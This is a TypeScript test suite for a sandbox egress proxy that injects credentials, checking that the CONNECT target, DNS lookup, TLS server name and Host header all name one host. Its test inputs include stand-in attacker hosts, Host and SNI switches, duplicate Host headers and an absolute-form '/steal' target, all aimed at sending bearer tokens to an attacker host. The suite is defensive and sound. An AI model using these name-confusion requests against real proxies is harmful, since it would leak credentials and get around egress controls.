// Name consistency attacks: the CONNECT target, the address dialled, the TLS server name
// and each request's Host must name one host. A sandbox that makes them disagree hopes that
// one component picks the credential by one name while another routes by the other.

import assert from 'node:assert/strict';
import { after, before, describe, test, type TestContext } from 'node:test';
import { createTestPki, type TestPki } from '../helpers/testPki.ts';
import { startEchoUpstream, type EchoUpstream } from '../helpers/upstreams.ts';
import {
  advAbsoluteForm,
  advAssertNoSecretReached,
  advAssertRefused,
  advConnect,
  advProxyAuthorization,
  advRequestThroughTunnel,
  advStartEchoOn,
  advStartProxy,
  advTlsInTunnel,
  type AdvProxy,
} from './helpers.ts';

const SECRET = 'sk-names-52be0d71';
const IP_SECRET = 'sk-names-ip-8c11fa';
const API_HOST = 'api.example.test';
const ATTACKER_HOST = 'attacker.test';
const ATTACKER_ADDRESS = '127.0.0.2';

let pki: TestPki;
let api: EchoUpstream;
let attacker: EchoUpstream;

before(async () => {
  pki = await createTestPki();
  api = await startEchoUpstream([API_HOST, '127.0.0.1'], {}, pki);
  attacker = await advStartEchoOn(ATTACKER_ADDRESS, api.port, [ATTACKER_HOST, API_HOST], pki);
});

after(async () => {
  await api?.close();
  await attacker?.close();
});

async function startProxy(t: TestContext, options: { ipCredential?: boolean } = {}): Promise<AdvProxy> {
  const credentials: unknown[] = [{ name: 'api', type: 'bearer_token', token: SECRET, allowedWebsites: [`${API_HOST}:${api.port}`] }];
  if (options.ipCredential) {
    credentials.push({ name: 'by-address', type: 'bearer_token', token: IP_SECRET, allowedWebsites: [`127.0.0.1:${api.port}`] });
  }
  return advStartProxy(t, {
    records: { [API_HOST]: ['127.0.0.1'], [ATTACKER_HOST]: [ATTACKER_ADDRESS] },
    credentials,
    upstreamCaPem: [pki.caPem],
    egress: { allowPrivateNetworks: ['127.0.0.1/32', `${ATTACKER_ADDRESS}/32`] },
  });
}

function assertAttackerGotNothing(): void {
  advAssertNoSecretReached(attacker, [SECRET, IP_SECRET], 'the attacker');
}

async function openIntercepted(proxy: AdvProxy, servername = API_HOST) {
  const { response, socket } = await advConnect(proxy.proxyPort, `${API_HOST}:${api.port}`, advProxyAuthorization(proxy.session));
  assert.equal(response.status, 200, response.body);
  return advTlsInTunnel(socket, { servername, ca: proxy.proxyCaPem, skipNameCheck: servername !== API_HOST });
}

describe('requests inside an intercepted tunnel', () => {
  const hostSwitches = [
    { attack: 'attacker host', host: () => ATTACKER_HOST },
    { attack: 'attacker host with port', host: () => `${ATTACKER_HOST}:${api.port}` },
    { attack: 'same host other port', host: () => `${API_HOST}:${api.port + 1}` },
    { attack: 'same host default port', host: () => API_HOST },
    { attack: 'userinfo in Host', host: () => `user@${API_HOST}:${api.port}` },
    { attack: 'IP literal Host', host: () => `127.0.0.1:${api.port}` },
    { attack: 'suffix-extended Host', host: () => `${API_HOST}.${ATTACKER_HOST}:${api.port}` },
    { attack: 'empty Host', host: () => '' },
  ];
  for (const { attack, host } of hostSwitches) {
    test(`later request switching to ${attack} gets 421`, async (t) => {
      const proxy = await startProxy(t);
      const session = await openIntercepted(proxy);
      t.after(() => session.close());
      const before = api.requests.length;

      const first = await session.request({ headers: { host: `${API_HOST}:${api.port}` } });
      assert.equal(first.status, 200, first.body);
      const second = await session.request({ path: '/second', headers: { host: host() } });

      advAssertRefused(second, 421, 'misdirected_request');
      assert.equal(api.requests.length, before + 1, 'only the first request reached the upstream');
      assertAttackerGotNothing();
    });
  }

  test('duplicate Host headers get 400', async (t) => {
    const proxy = await startProxy(t);
    for (const hosts of [
      [`${API_HOST}:${api.port}`, `${ATTACKER_HOST}:${api.port}`],
      [`${ATTACKER_HOST}:${api.port}`, `${API_HOST}:${api.port}`],
      [`${API_HOST}:${api.port}`, `${API_HOST}:${api.port}`],
    ]) {
      const session = await openIntercepted(proxy);
      const response = await session.request({ rawHeaders: hosts.flatMap((host) => ['Host', host]) });
      session.close();
      advAssertRefused(response, 400, 'bad_request');
    }
    assertAttackerGotNothing();
  });

  test('absolute-form target inside tunnel gets 400', async (t) => {
    const proxy = await startProxy(t);
    const session = await openIntercepted(proxy);
    t.after(() => session.close());

    const response = await session.request({ path: `https://${ATTACKER_HOST}:${api.port}/steal`, headers: { host: `${API_HOST}:${api.port}` } });

    advAssertRefused(response, 400, 'bad_request');
    assertAttackerGotNothing();
  });

  test('scheme-relative target stays on host', async (t) => {
    const proxy = await startProxy(t);
    const session = await openIntercepted(proxy);
    t.after(() => session.close());
    const before = api.requests.length;

    const response = await session.request({ path: `//${ATTACKER_HOST}/steal`, headers: { host: `${API_HOST}:${api.port}` } });

    assert.equal(response.status, 200, response.body);
    assert.equal(api.requests.length, before + 1);
    assert.equal(api.requests.at(-1)?.url, '/steal');
    assertAttackerGotNothing();
  });

  test('SNI of attacker gets 421', async (t) => {
    const proxy = await startProxy(t);
    const session = await openIntercepted(proxy, ATTACKER_HOST);
    t.after(() => session.close());

    const response = await session.request({ headers: { host: `${API_HOST}:${api.port}` } });

    advAssertRefused(response, 421, 'misdirected_request');
    assertAttackerGotNothing();
  });

  test('WebSocket upgrade switching Host gets 421', async (t) => {
    const proxy = await startProxy(t);
    const session = await openIntercepted(proxy);
    t.after(() => session.close());

    const response = await session.request({
      headers: { host: `${ATTACKER_HOST}:${api.port}`, connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==' },
    }).catch((error: Error) => ({ status: 0, headers: {}, body: error.message }));

    // Node's client reports a refused upgrade as an ordinary response.
    advAssertRefused(response, 421, 'misdirected_request');
    assertAttackerGotNothing();
  });
});

describe('IP-literal CONNECT', () => {
  test('IP target with name SNI gets 421', async (t) => {
    const proxy = await startProxy(t, { ipCredential: true });
    const before = api.requests.length;
    const { response: connected, socket } = await advConnect(proxy.proxyPort, `127.0.0.1:${api.port}`, advProxyAuthorization(proxy.session));
    assert.equal(connected.status, 200);
    const session = await advTlsInTunnel(socket, { servername: API_HOST, ca: proxy.proxyCaPem, skipNameCheck: true });
    t.after(() => session.close());

    const response = await session.request({ headers: { host: `127.0.0.1:${api.port}` } });

    advAssertRefused(response, 421, 'misdirected_request');
    assert.equal(api.requests.length, before, 'the refused request never reached the upstream');
    assertAttackerGotNothing();
  });

  test('IP target with name Host gets 421', async (t) => {
    const proxy = await startProxy(t, { ipCredential: true });
    const before = api.requests.length;
    const { response: connected, socket } = await advConnect(proxy.proxyPort, `127.0.0.1:${api.port}`, advProxyAuthorization(proxy.session));
    assert.equal(connected.status, 200);
    const session = await advTlsInTunnel(socket, { identity: '127.0.0.1', ca: proxy.proxyCaPem });
    t.after(() => session.close());

    const response = await session.request({ headers: { host: `${API_HOST}:${api.port}` } });

    advAssertRefused(response, 421, 'misdirected_request');
    assert.equal(api.requests.length, before, 'the refused request never reached the upstream');
  });

  test('IP target uses only its credential', async (t) => {
    const proxy = await startProxy(t, { ipCredential: true });
    const before = api.requests.length;

    const response = await advRequestThroughTunnel(proxy, `127.0.0.1:${api.port}`, { identity: '127.0.0.1', ca: proxy.proxyCaPem }, { headers: { host: `127.0.0.1:${api.port}` } });

    assert.equal(response.status, 200, response.body);
    assert.equal(api.requests.length, before + 1);
    assert.equal(api.requests.at(-1)?.headers.authorization, `Bearer ${IP_SECRET}`);
    advAssertNoSecretReached({ requests: api.requests.slice(before) }, [SECRET], 'the IP-literal upstream');
  });
});

describe('one name drives DNS and the dial', () => {
  test('DNS and dial follow CONNECT target', async (t) => {
    const proxy = await startProxy(t);

    const response = await advRequestThroughTunnel(proxy, `API.Example.Test.:${api.port}`, { servername: ATTACKER_HOST, ca: proxy.proxyCaPem, skipNameCheck: true }, {
      headers: { host: `${ATTACKER_HOST}:${api.port}` },
    });

    advAssertRefused(response, 421, 'misdirected_request');
    assert.deepEqual([...new Set(proxy.dns.lookups)], [API_HOST], 'only the normalised CONNECT name is resolved, never the SNI or Host');
    assert.ok(proxy.guard.dials.every((dial) => dial === `127.0.0.1:${api.port}`), JSON.stringify(proxy.guard.dials));
    assertAttackerGotNothing();
  });
});

describe('absolute-form Host header', () => {
  const mismatches = [
    { attack: 'attacker Host on https target', url: () => `https://${API_HOST}:${api.port}/`, host: () => `${ATTACKER_HOST}:${api.port}` },
    { attack: 'credentialed Host on attacker target', url: () => `https://${ATTACKER_HOST}:${api.port}/`, host: () => `${API_HOST}:${api.port}` },
    { attack: 'other port in Host', url: () => `https://${API_HOST}:${api.port}/`, host: () => `${API_HOST}:${api.port + 1}` },
    { attack: 'default port Host', url: () => `https://${API_HOST}:${api.port}/`, host: () => API_HOST },
    { attack: 'attacker Host on http target', url: () => `http://${API_HOST}:${api.port}/`, host: () => ATTACKER_HOST },
  ];
  for (const { attack, url, host } of mismatches) {
    test(`absolute-form ${attack} gets 421`, async (t) => {
      const proxy = await startProxy(t);
      const before = api.requests.length;

      const response = await advAbsoluteForm(proxy, url(), { headers: { host: host() } });

      advAssertRefused(response, 421, 'misdirected_request');
      assert.equal(api.requests.length, before);
      assertAttackerGotNothing();
    });
  }

  test('absolute-form duplicate Host gets 400', async (t) => {
    const proxy = await startProxy(t);
    const response = await advAbsoluteForm(proxy, `https://${API_HOST}:${api.port}/`, {
      rawHeaders: ['Host', `${API_HOST}:${api.port}`, 'Host', `${ATTACKER_HOST}:${api.port}`],
    });
    advAssertRefused(response, 400, 'bad_request');
    assertAttackerGotNothing();
  });

  test('absolute-form matching Host accepted', async (t) => {
    const proxy = await startProxy(t);
    const before = api.requests.length;

    const response = await advAbsoluteForm(proxy, `https://${API_HOST}:${api.port}/ok`, { headers: { host: `API.example.test:${api.port}` } });

    assert.equal(response.status, 200, response.body);
    assert.equal(api.requests.length, before + 1);
    assert.equal(api.requests.at(-1)?.headers.authorization, `Bearer ${SECRET}`);
    assertAttackerGotNothing();
  });
});
